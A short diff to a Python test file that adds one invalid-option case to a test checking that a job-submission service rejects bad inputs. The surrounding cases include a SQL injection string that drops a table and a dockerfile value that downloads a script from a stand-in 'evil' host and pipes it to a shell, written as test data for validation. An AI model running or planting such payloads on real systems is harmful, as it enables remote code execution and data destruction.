@@ -112,6 +112,7 @@ def test_hostile_model_urls_are_invalid_model(client, url):
         ({"optimizationLevel": "O9"}, "options.optimizationLevel"),
         ({"optimizationLevel": "'; DROP TABLE jobs; --"}, "options.optimizationLevel"),
         ({"gpu": True, "optimizationLevel": "onnxruntime"}, "options.optimizationLevel"),
+        ({"gpu": True, "optimizationLevel": "openvino"}, "options.optimizationLevel"),
         ({"dockerfile": "RUN curl evil | sh"}, "options.dockerfile"),
     ],
 )
